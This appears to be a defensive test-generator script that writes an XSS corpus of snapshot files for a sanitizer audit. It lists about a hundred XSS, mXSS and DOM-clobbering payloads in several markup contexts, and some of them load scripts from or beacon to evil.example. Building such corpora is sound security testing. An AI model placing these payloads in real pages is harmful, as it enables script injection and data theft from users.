// Writes the hostile-snapshot corpus to e2e/xss-corpus/: real-format snapshots, one attack each.
// Regenerate with `node scripts/xss-corpus.mjs`. Every payload, if it ever ran, would set the canary
// (window.__xss), open a dialog, or make a request to evil.example: the audit watches for all three.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'

const out = path.resolve(import.meta.dirname, '../e2e/xss-corpus')
const RUN = 'window.__xss=1'
const EVIL = 'https://evil.example'

/** [name, payload]: from the OWASP XSS filter evasion cheat sheet, DOMPurify's mXSS reports and the list. */
const VECTORS = [
  ['script', `<script>${RUN}</script>`],
  ['script-src', `<script src="${EVIL}/x.js"></script>`],
  ['script-uppercase', `<SCRIPT>${RUN}</SCRIPT>`],
  ['script-nested', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
  ['script-slash', `<script/xss src="${EVIL}/x.js"></script>`],
  ['script-in-attr-quote', `<img """><script>${RUN}</script>">`],
  ['img-onerror', `<img src=x onerror="${RUN}">`],
  ['img-onerror-entity', `<img src=x onerror="&#119;indow.__xss=1">`],
  ['img-onerror-nospace', `<img/src=x/onerror=${RUN}>`],
  ['img-javascript-src', `<img src="javascript:${RUN}">`],
  ['img-srcset', `<img srcset="${EVIL}/a.jpg 1x, ${EVIL}/b.jpg 2x">`],
  [
    'img-data-svg',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  ],
  ['svg-onload', `<svg onload="${RUN}"></svg>`],
  ['svg-script', `<svg><script>${RUN}</script></svg>`],
  ['svg-xlink', `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="20">click</text></a></svg>`],
  ['svg-animate', `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`],
  [
    'svg-set-href',
    `<svg><a><set attributeName="href" to="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  ],
  [
    'svg-foreignobject',
    `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
  ],
  ['svg-style-img', `<svg><style><img src=x onerror="${RUN}"></style></svg>`],
  ['math-href', `<math href="javascript:${RUN}"><mtext>x</mtext></math>`],
  [
    'math-mglyph-style',
    `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  ],
  [
    'math-mtext-textarea',
    `<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${RUN}>">`,
  ],
  [
    'mxss-form-math',
    `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  ],
  ['mxss-noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`],
  ['mxss-template', `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`],
  ['mxss-style-title', `<style><img src=x onerror=${RUN}></style>`],
  ['mxss-xmp', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`],
  ['mxss-noembed', `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`],
  ['mxss-iframe-text', `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`],
  ['mxss-comment', `<!--<img src="--><img src=x onerror=${RUN}//">`],
  ['mxss-cdata', `<svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`],
  ['iframe-javascript', `<iframe src="javascript:${RUN}"></iframe>`],
  ['iframe-srcdoc', `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`],
  ['iframe-remote', `<iframe src="${EVIL}/frame"></iframe>`],
  ['iframe-data', `<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>`],
  ['object-data', `<object data="javascript:${RUN}"></object>`],
  ['object-remote', `<object data="${EVIL}/x.swf" type="application/x-shockwave-flash"></object>`],
  ['embed', `<embed src="javascript:${RUN}">`],
  ['embed-remote', `<embed src="${EVIL}/x.swf">`],
  ['a-javascript', `<a href="javascript:${RUN}">read more</a>`],
  ['a-javascript-case', `<a href="JaVaScRiPt:${RUN}">read more</a>`],
  ['a-javascript-tab', `<a href="jav&#x09;ascript:${RUN}">read more</a>`],
  [
    'a-javascript-entity',
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">read more</a>`,
  ],
  ['a-javascript-space', `<a href=" javascript:${RUN}">read more</a>`],
  ['a-vbscript', `<a href="vbscript:msgbox(1)">read more</a>`],
  ['a-data-html', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">read more</a>`],
  ['a-target-blank', `<a href="${EVIL}/phish" target="_blank">read more</a>`],
  ['a-ping', `<a href="https://example.com/" ping="${EVIL}/ping">read more</a>`],
  ['area-javascript', `<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:${RUN}"></map>`],
  ['form-action', `<form action="javascript:${RUN}"><input type="submit" value="go"></form>`],
  ['button-formaction', `<form><button formaction="javascript:${RUN}">go</button></form>`],
  ['input-autofocus', `<input autofocus onfocus="${RUN}">`],
  ['select-autofocus', `<select autofocus onfocus="${RUN}"><option>x</option></select>`],
  ['textarea-autofocus', `<textarea autofocus onfocus="${RUN}"></textarea>`],
  ['details-ontoggle', `<details open ontoggle="${RUN}"><summary>x</summary></details>`],
  ['marquee-onstart', `<marquee onstart="${RUN}">x</marquee>`],
  ['body-onload', `<body onload="${RUN}">`],
  ['body-onpageshow', `<body onpageshow="${RUN}">`],
  ['div-onmouseover', `<div onmouseover="${RUN}" style="position:fixed;inset:0">x</div>`],
  ['p-onclick', `<p onclick="${RUN}">click me</p>`],
  [
    'span-onanimationstart',
    `<style>@keyframes x{}</style><span style="animation-name:x" onanimationstart="${RUN}">x</span>`,
  ],
  ['video-poster', `<video poster="${EVIL}/poster.jpg" src="${EVIL}/v.mp4"></video>`],
  ['video-source-onerror', `<video><source onerror="${RUN}"></video>`],
  ['audio-src', `<audio src="${EVIL}/a.mp3" autoplay></audio>`],
  ['picture-source', `<picture><source srcset="${EVIL}/p.webp"><img src="${EVIL}/p.jpg"></picture>`],
  ['table-background', `<table background="${EVIL}/t.jpg"><tr><td>x</td></tr></table>`],
  ['td-background', `<table><tr><td background="${EVIL}/td.jpg">x</td></tr></table>`],
  ['body-background', `<body background="${EVIL}/b.jpg">`],
  ['style-import', `<style>@import '${EVIL}/x.css';</style>`],
  ['style-url', `<style>p{background:url(${EVIL}/bg.png)}</style><p>x</p>`],
  ['style-attr-url', `<p style="background:url(${EVIL}/bg.png)">x</p>`],
  ['style-expression', `<p style="width:expression(${RUN})">x</p>`],
  ['link-stylesheet', `<link rel="stylesheet" href="${EVIL}/x.css">`],
  ['link-prefetch', `<link rel="prefetch" href="${EVIL}/prefetch">`],
  ['link-import', `<link rel="import" href="${EVIL}/x.html">`],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`],
  ['meta-refresh-remote', `<meta http-equiv="refresh" content="0;url=${EVIL}/">`],
  ['meta-csp-override', `<meta http-equiv="Content-Security-Policy" content="script-src *">`],
  ['base-href', `<base href="${EVIL}/"><img src="x.jpg"><a href="relative">relative</a>`],
  ['clobber-bridge-id', `<form id="snapshotReader"><input name="getArticle"></form>`],
  ['clobber-bridge-name', `<img name="snapshotReader"><img name="snapshotReader">`],
  ['clobber-document', `<img name="getElementById"><form name="body"></form>`],
  ['clobber-harness', `<a id="__snapshotReaderHarnessDeliver" href="javascript:${RUN}">x</a>`],
  ['clobber-dompurify', `<img name="removeChild"><form id="DOMPurify"></form>`],
  ['entity-lt', `&lt;script&gt;${RUN}&lt;/script&gt;`],
  ['unicode-escape', `<img src=x onerror="\\u0077indow.__xss=1">`],
  ['null-byte', `<scr\u0000ipt>${RUN}</scr\u0000ipt>`],
  ['unclosed-tag', `<img src=x onerror=${RUN} `],
  ['bogus-comment', `<? ><img src=x onerror=${RUN}> ?>`],
  ['html-in-attr', `<p title="<img src=x onerror=${RUN}>">x</p>`],
  ['srcdoc-entity', `<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>`],
  [
    'tweet-embed',
    `<blockquote class="twitter-tweet"><a href="javascript:${RUN}">tweet</a></blockquote><script src="${EVIL}/widgets.js"></script>`,
  ],
  ['webview', `<webview src="${EVIL}/"></webview>`],
  ['portal', `<portal src="${EVIL}/"></portal>`],
  ['dialog', `<dialog open onclose="${RUN}">x</dialog>`],
  ['fetch-beacon', `<img src=x onerror="fetch('${EVIL}/f');navigator.sendBeacon('${EVIL}/b')">`],
]

/** The same attack in three places a parser treats differently: the top level, a paragraph, a figure's caption. */
const CONTEXTS = [
  ['body', (p) => `<p>Before the attack.</p>${p}<p>After the attack.</p>`],
  ['paragraph', (p) => `<p>Text ${p} more text.</p><p>After.</p>`],
  [
    'caption',
    (p) =>
      `<img src="https://images.weserv.nl/?url=example.com/a.jpg" width="100%"><div><small>Caption ${p}</small></div><p>After.</p>`,
  ],
]

const header = (title, url, epoch = 1700000000000) => `<!--${epoch}-->\n[${title}](${url})\n------\n\n`

rmSync(out, { recursive: true, force: true })
mkdirSync(out, { recursive: true })
let count = 0
VECTORS.forEach(([name, payload], i) => {
  for (const [context, wrap] of CONTEXTS) {
    const file = `${String(i).padStart(3, '0')}-${name}-${context}.md`
    writeFileSync(
      path.join(out, file),
      header(`XSS ${name} (${context})`, `https://example.com/xss/${name}/${context}`) + wrap(payload) + '\n',
    )
    count++
  }
})

// Payloads in the header itself: the title line, the URL line and the front matter.
const HEADERS = [
  ['title-script', header(`<script>${RUN}</script> title`, 'https://example.com/t1') + '<p>body</p>'],
  ['title-img', header(`<img src=x onerror=${RUN}> title`, 'https://example.com/t2') + '<p>body</p>'],
  [
    'title-entity',
    header(`&lt;img src=x onerror=${RUN}&gt; title`, 'https://example.com/t3') + '<p>body</p>',
  ],
  ['url-javascript', header('URL is javascript', `javascript:${RUN}`) + '<p>body</p>'],
  ['url-data', header('URL is data', 'data:text/html,<script>parent.__xss=1</script>') + '<p>body</p>'],
  [
    'url-quote-break',
    header('URL breaks out', `https://example.com/"><img src=x onerror=${RUN}>`) + '<p>body</p>',
  ],
  [
    'fm-title',
    `---\nlayout: post\ntitle: "<script>${RUN}</script>"\ndate: 2021-01-06T05:33:00.000Z\nauthor: <img src=x onerror=${RUN}>\nfrom: javascript:${RUN}\ntags: [ <svg onload=${RUN}> ]\n---\n<p>front matter only</p>\n`,
  ],
  [
    'fm-then-header',
    `---\ntitle: "x"\nauthor: "<svg onload=${RUN}>"\nfrom: https://example.com/fm\n---\n` +
      header('fm', 'https://example.com/fm') +
      `<p>body</p>`,
  ],
  [
    'related-javascript',
    header('Related links', 'https://www.bbc.com/zhongwen/simp/x-1') +
      `<ul role="list"><li><a href="javascript:${RUN}">bad</a></li><li><a href="/zhongwen/simp/y">good</a></li></ul><p>body</p>`,
  ],
  [
    'gallery-heading',
    header('Gallery', 'https://www.dw.com/zh/x/a-1') +
      `<h3>相关图集</h3><div><img src="https://images.weserv.nl/?url=a.jpg"><b><svg onload=${RUN}>标题</b>：<img src=x onerror=${RUN}>文字</div><div><img src="https://images.weserv.nl/?url=b.jpg"><b>第二</b>：文字</div>`,
  ],
  [
    'table-cells',
    header('Table', 'https://example.com/table') +
      `<table><tr><th><img src=x onerror=${RUN}>h</th><th>h2</th></tr><tr><td><script>${RUN}</script>c</td><td>d</td></tr></table>`,
  ],
  [
    'time-and-byline',
    header('Byline', 'https://example.com/byline') +
      `<div><i><img src=x onerror=${RUN}><br>2023-08-15T12:00:09.521Z</i></div><p>body</p>`,
  ],
]
for (const [name, text] of HEADERS) {
  writeFileSync(path.join(out, `h-${name}.md`), text)
  count++
}
console.log(`${count} hostile snapshots written to ${path.relative(process.cwd(), out)}`)
